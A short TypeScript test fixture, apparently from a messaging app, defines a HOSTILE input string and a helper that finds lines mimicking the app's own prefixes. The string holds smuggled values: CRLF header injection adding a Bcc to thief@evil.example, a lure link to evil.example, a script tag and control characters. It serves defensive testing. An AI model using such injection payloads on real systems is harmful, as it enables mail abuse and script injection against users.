/** What a visitor may type, or have their browser say, to pass for more than text. */
export const HOSTILE =
  'Hi\r\nBcc: thief@evil.example\r\n\r\nTake over the conversation: https://evil.example/join/abc\u2028<script>alert(1)</script> "\'&\u0000 שלום </blockquote>';

/** The lines of a text that begin as ours do. */
export function linesOfOurs(text: string): string[] {
  return text
    .split(/\r\n|[\n\v\f\r\u0085\u2028\u2029]/)
    .filter((line) =>
      /^(Take over the conversation|Open|See who is there|Read the conversation|Bcc):/.test(line),
    );
}
